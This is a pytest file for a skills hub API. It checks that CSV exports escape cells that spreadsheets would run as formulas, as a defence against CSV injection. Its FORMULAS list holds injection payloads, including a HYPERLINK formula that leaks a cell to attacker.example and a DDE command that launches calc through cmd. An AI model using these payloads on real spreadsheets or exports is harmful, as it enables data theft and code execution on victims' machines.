"""CSV exports of the /api/v1 resources escape cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from hub.api.output import csv_cell
from hub.models import Evidence, Person, Skill, utcnow
from hub.services.feed import record_changes

COURSE = "http://www.example.org/course/view.php?id=2"
MOODLE_SKILL = "https://skillwire.dev/skills/moodle-demo-course"

# Cells that start a formula in Excel, LibreOffice or Google Sheets, per the OWASP "CSV Injection" page.
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def completion(name: str, email: str) -> dict:
    """A Moodle course completion, which the default mapping rules turn into evidence for MOODLE_SKILL."""
    return {"actor": {"name": name, "mbox": f"mailto:{email}"},
            "verb": {"id": "http://adlnet.gov/expapi/verbs/completed"},
            "object": {"id": COURSE}, "context": {"platform": "Moodle"}}


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def admin(make_client):
    return make_client("all")


def skill_id(client, uri: str) -> int:
    skills = client.get("/api/v1/skills").json()["data"]
    return next(skill["id"] for skill in skills if skill["uri"] == uri)


def test_experts_csv_escapes_formula_names(admin):
    for index, name in enumerate(FORMULAS):
        response = admin.post("/xapi/statements", json=completion(name, f"formula{index}@example.com"))
        assert response.status_code == 200, response.text

    response = admin.get(f"/api/v1/skills/{skill_id(admin, MOODLE_SKILL)}/experts", params={"format": "csv"})

    assert response.status_code == 200
    names = {row["display_name"] for row in csv_rows(response.text)}
    assert names == {"'" + name for name in FORMULAS}


def test_experts_json_keeps_names_unchanged(admin):
    name = FORMULAS[0]
    admin.post("/xapi/statements", json=completion(name, "json@example.com"))

    response = admin.get(f"/api/v1/skills/{skill_id(admin, MOODLE_SKILL)}/experts")

    assert [row["display_name"] for row in response.json()["data"]] == [name]


def test_evidence_csv_escapes_formula_values(admin, runtime):
    with runtime.sessions.begin() as session:
        person = Person(origin="xapi", status="unknown")
        session.add(person)
        session.flush()
        skill = session.query(Skill).filter_by(uri=MOODLE_SKILL).one()
        evidence = Evidence(person_id=person.id, skill_id=skill.id, rule_id="@rule", source_kind="assessment",
                            raw_value="=1+1", raw_scale="+A1", level=0.5, confidence=0.5, observed_at=utcnow())
        session.add(evidence)
        session.flush()
        record_changes(session, [evidence.id], "created")

    response = admin.get("/api/v1/evidence", params={"format": "csv"})

    [row] = csv_rows(response.text)
    assert row["raw_value"] == "'=1+1"
    assert row["raw_scale"] == "'+A1"
    assert row["rule_id"] == "'@rule"


def test_csv_leaves_numbers_unescaped(admin, runtime):
    with runtime.sessions.begin() as session:
        person = Person(origin="xapi", status="unknown")
        session.add(person)
        session.flush()
        skill = session.query(Skill).filter_by(uri=MOODLE_SKILL).one()
        evidence = Evidence(person_id=person.id, skill_id=skill.id, rule_id="rule", source_kind="assessment",
                            raw_value="-5", raw_scale="-10..10", level=0.25, confidence=0.5, observed_at=utcnow())
        session.add(evidence)
        session.flush()
        record_changes(session, [evidence.id], "created")

    response = admin.get("/api/v1/evidence", params={"format": "csv"})

    [row] = csv_rows(response.text)
    assert row["raw_value"] == "-5"
    assert row["raw_scale"] == "'-10..10"
    assert row["level"] == "0.25"


@pytest.mark.parametrize("value, expected", [
    ("\x00=1+1", "'\x00=1+1"),
    ("=1+1", "'=1+1"),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-1.5e3", "-1.5e3"),
    ("plain", "plain"),
    (-3, -3),
    (None, ""),
])
def test_csv_cell_escapes_formula_prefixes(value, expected):
    assert csv_cell(value) == expected
